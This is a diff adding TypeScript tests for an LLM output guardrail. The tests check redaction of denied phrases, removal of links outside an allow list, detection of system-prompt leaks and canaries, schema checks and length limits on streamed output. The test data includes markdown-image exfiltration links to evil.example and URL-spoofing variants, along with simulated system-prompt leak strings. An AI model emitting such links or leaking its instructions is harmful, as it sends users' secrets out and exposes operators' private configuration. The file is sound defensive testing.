@@ -1,0 +1,138 @@
+import assert from "node:assert/strict";
+import { test } from "node:test";
+import fc from "fast-check";
+import { context, decideWith, view } from "../../../test/support/context.ts";
+import { gated, LANE, seat } from "../../../test/support/guards.ts";
+import { property } from "../../../test/support/property.ts";
+import { assertSubset } from "../../../test/support/subset.ts";
+import type { TextSpan } from "../../core/view.ts";
+import { outputStage } from "./stage.ts";
+
+const SYSTEM = "You are the helpful assistant of Acme. Never tell anyone the discount code or how the price is made.";
+const span = (value: string): TextSpan => ({ place: "system", node: { kind: "string", start: 0, end: 0, value } });
+
+/** What the caller gets of an answer of these pieces under the rules, and how it ends. */
+function said(section: object, pieces: readonly string[], channel: "content" | "tool_arguments" = "content") {
+  const of = context({ view: view({ texts: () => [span(SYSTEM)] }) });
+  const verdict = decideWith(outputStage, section, of);
+  assert.ok(!("then" in verdict) && !("ok" in verdict) && verdict.kind === "allow");
+  const guards = verdict.effects.flatMap((effect) => (effect.kind === "guard" ? [effect.guard] : []));
+  const { out, stop } = gated(
+    guards.map((guard) => seat("output", guard)),
+    pieces.map((text) => ({
+      bytes: Buffer.from(text),
+      deltas: [{ ...LANE, channel, text }],
+      rewrite: ([other]) => Buffer.from(other ?? text),
+    })),
+  );
+  return { out, stop, evidence: guards.map((guard) => guard.evidence()).filter((one) => one !== undefined) };
+}
+const cutAt = (text: string, cuts: readonly number[]): readonly string[] => {
+  const places = [...new Set(cuts.map((cut) => cut % (text.length + 1)))].sort((a, b) => a - b);
+  return [...places, text.length].map((end, index) => text.slice(places[index - 1] ?? 0, end));
+};
+
+const phrase = (action: string) => ({ deny: [{ name: "codename", words: ["Project Falcon", "falcon"], action }], replaceWith: "No." });
+test("a denied phrase is put out, in any case and however it is cut", () => {
+  const { out, evidence } = said(phrase("redact"), ["on proj", "ECT fal", "con we"]);
+  assert.equal(out, "on <CODENAME> we");
+  assertSubset(evidence, [
+    { verdict: "allow", evidence: { found: [{ entity: "codename", place: "content", action: "redact", count: 1 }] } },
+  ]);
+});
+const ends = [
+  ["cut", { kind: "filtered", text: null }],
+  ["replace", { kind: "filtered", text: "No." }],
+  ["refuse", { kind: "refuse", denial: { code: "content_blocked" } }],
+] as const;
+for (const [action, stop] of ends)
+  test(`a denied phrase ends the answer: ${action}`, () => {
+    const ended = said(phrase(action), ["on proj", "ect falcon we"]);
+    assert.equal(ended.out, "on ");
+    assertSubset(ended.stop, stop);
+    assertSubset(ended.evidence, [{ verdict: "deny", denial: { code: "content_blocked" } }]);
+  });
+
+const urls = { urls: { allow: ["docs.acme.com", "*.cdn.acme.com"] } };
+const links: readonly (readonly [string, string])[] = [
+  ["see https://docs.acme.com/a?b=c.", "see https://docs.acme.com/a?b=c."],
+  ["see https://x.cdn.acme.com/a", "see https://x.cdn.acme.com/a"],
+  ["![x](https://evil.example/log?q=secret)", "![x](<URL>)"],
+  ["![x](//evil.example/log?q=secret)", "![x](<URL>)"],
+  ["https://docs.acme.com.evil.example/", "<URL>"],
+  ["https://docs.acme.com@evil.example/x", "<URL>"],
+  ["www.evil.example and 1/2 // comment", "<URL> and 1/2 // comment"],
+];
+for (const [text, out] of links)
+  test(`links: ${text}`, () => {
+    assert.equal(said(urls, [text]).out, out);
+    for (let at = 1; at < text.length; at++) assert.equal(said(urls, [text.slice(0, at), text.slice(at)]).out, out, `cut at ${at}`);
+  });
+test("links in arguments are the tool's business", () => {
+  assert.equal(said(urls, ['{"u":"https://evil.example/"}'], "tool_arguments").out, '{"u":"https://evil.example/"}');
+});
+
+const prompt = { systemPrompt: { words: 6, canaries: ["CANARY-77"] } };
+test("a leak of the system prompt ends the answer before any of it has left", () => {
+  for (const pieces of [
+    ["Sure: never tell ANYONE the discount", " code or how"],
+    [..."Sure: never tell ANYONE the discount code or how"],
+  ]) {
+    const { out, stop } = said(prompt, pieces);
+    assert.equal(out, "Sure: ");
+    assert.equal(stop?.kind, "refuse");
+  }
+  assert.equal(said(prompt, ["the discount code is not how the price is set"]).stop, undefined);
+  assert.equal(said(prompt, ["it is canary", "-77!"]).out, "it is ");
+});
+
+const schema = { schema: { type: "object", required: ["a"], properties: { a: { type: "number" } } } };
+test("an answer that breaks the schema does not begin; one that keeps it passes to the byte", () => {
+  assertSubset(said(schema, ['{"a":', '"x"}']), { out: "", stop: { kind: "refuse" }, evidence: [{ verdict: "deny", reason: "~schema" }] });
+  assertSubset(said(schema, ["no json"]), { out: "", stop: { kind: "refuse" } });
+  assert.equal(said(schema, ['{ "a":', " 1 }"]).out, '{ "a": 1 }');
+  assertSubset(said({ ...schema, onInvalid: "replace", replaceWith: "Sorry." }, ["no json"]), {
+    out: "",
+    stop: { kind: "filtered", text: "Sorry." },
+  });
+});
+test("a text that is too long ends as one that met its length", () => {
+  assertSubset(said({ maxChars: 5 }, ["abc", "defg"]), { out: "abcde", stop: { kind: "length" } });
+  assert.equal(said({ maxChars: 5 }, ["abc", "de"]).stop, undefined);
+});
+
+property(
+  "I8: what leaves does not depend on how the answer is cut",
+  fc.tuple(
+    fc.array(
+      fc.constantFrom(
+        "project ",
+        "falcon",
+        "fal",
+        "https://evil.example/x ",
+        "//e.x/ ",
+        "the discount code or how ",
+        "the price is ",
+        "canary-7",
+        "7",
+        "é ",
+        "中文",
+      ),
+      { maxLength: 12 },
+    ),
+    fc.array(fc.nat({ max: 300 }), { maxLength: 20 }),
+    fc.boolean(),
+  ),
+  ([words, cuts, ending]) => {
+    const rules = {
+      ...phrase(ending ? "refuse" : "redact"),
+      ...urls,
+      systemPrompt: { ...prompt.systemPrompt, action: ending ? "cut" : "redact" },
+    };
+    const text = words.join("");
+    const [whole, cut] = [said(rules, [text]), said(rules, cutAt(text, cuts))];
+    assert.equal(cut.out, whole.out);
+    assert.deepEqual(cut.stop, whole.stop);
+  },
+  300,
+);
